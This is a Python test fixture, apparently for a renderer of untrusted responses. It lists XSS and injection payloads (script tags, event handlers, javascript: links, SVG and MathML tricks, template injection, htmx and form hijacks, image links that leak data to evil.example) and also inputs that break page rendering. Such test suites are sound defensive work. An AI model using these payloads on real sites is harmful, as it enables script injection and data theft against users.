"""Responses that would act, and responses that would break the page."""

ACTS = {
    "script": "<script>window.hacked = 1</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "event handlers": (
        "<img src=x onerror='window.hacked = 1'><body onload=window.hacked=1>"
        "<details open ontoggle=window.hacked=1><video><source onerror=window.hacked=1></video>"
    ),
    "javascript links": (
        "[a](javascript:window.hacked=1) [b](JaVa&#x09;script:window.hacked=1) <javascript:window.hacked=1>"
    ),
    "data links": (
        "[a](data:text/html;base64,PHNjcmlwdD4x) ![p](data:image/svg+xml,<svg onload=alert(1)>) [v](vbscript:x)"
    ),
    "svg": (
        "<svg onload='window.hacked = 1'><animate onbegin='window.hacked=1'/><use href=//evil.example/a.svg#x></svg>"
    ),
    "mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>\n\n"
        r"$\text{</mtext><img src=x onerror=window.hacked=1>}$ $\href{javascript:window.hacked=1}{x}$ "
        r"$$\begin{array}{c}<mglyph><style></math><img src=x onerror=window.hacked=1>\end{array}$$"
    ),
    "css": (
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>"
        "<div style='position:fixed;inset:0;background:url(//evil.example/p.png)'>over</div>"
    ),
    "end of a text field": "</textarea></script></style></title></template><script>window.hacked=1</script>",
    "templates": "{{ 7|add:7 }}{% debug %}${window.hacked=1}{{constructor.constructor('window.hacked=1')()}}<%= 7*7 %>",
    "htmx": "<div hx-get=//evil.example/ hx-trigger=load data-hx-on:load='window.hacked=1'>x</div>",
    "frames and forms": (
        "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><object data=//evil.example/></object>"
        "<form action=//evil.example/><input autofocus onfocus=window.hacked=1></form><dialog open>hi</dialog>"
        "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>"
    ),
    "the page's own attributes": (
        "<button data-do=submit>Submit</button><div data-task=9 data-card=x data-letter=A>x</div>"
    ),
    "code": (
        '```html\n</code></pre><script>window.hacked=1</script>\n```\n```"><script>window.hacked=1</script>\nx\n```'
    ),
    "images": "![pixel](https://evil.example/p.png?leak=1) [leak](https://evil.example/a) <https://evil.example/b>",
    "controls": "nul \x01\x02\x08\x0b\x0c\x1b[2J \x7f\x9b end",
}
BREAKS = {
    "bidi overrides": "\u202eoverride \u2066isolate \u202dleft\u202a\u202b " * 30 + "never closed \u202e\u2067\u202e",
    "zalgo": "H" + "\u0310\u0335\u0489\u0317\u0363" * 60 + "e" + "\u0341\u0322\u0317" * 200,
    "one line of 200 KB": "x" * 200_000,
    "one line of 200 KB with spaces": "word " * 40_000,
    "a line of unbreakable signs": "\u00a0" * 3_000 + "\u2060a" * 2_000,
    "deep nesting": "> " * 300 + "deep\n\n" + "".join("  " * depth + "- level\n" for depth in range(60)),
    "a giant table": "| a " * 200 + "|\n" + "|---" * 200 + "|\n" + ("| cell " * 200 + "|\n") * 20,
    "huge headings": "# " + "HEADING" * 200 + "\n\n" + "=" * 3_000,
    "a wide formula": "$$" + "x+" * 600 + "x$$ and $" + "y" * 300 + "$",
    "braces": "$" + "{" * 10_000 + "}" * 10_000 + "$ \\(" + "\\frac" * 500 + "\\)",
    "wide code": "```\n" + "x" * 20_000 + "\n```\n`" + "y" * 3_000 + "`",
    "many marks": "*a **b " * 3_000,
}
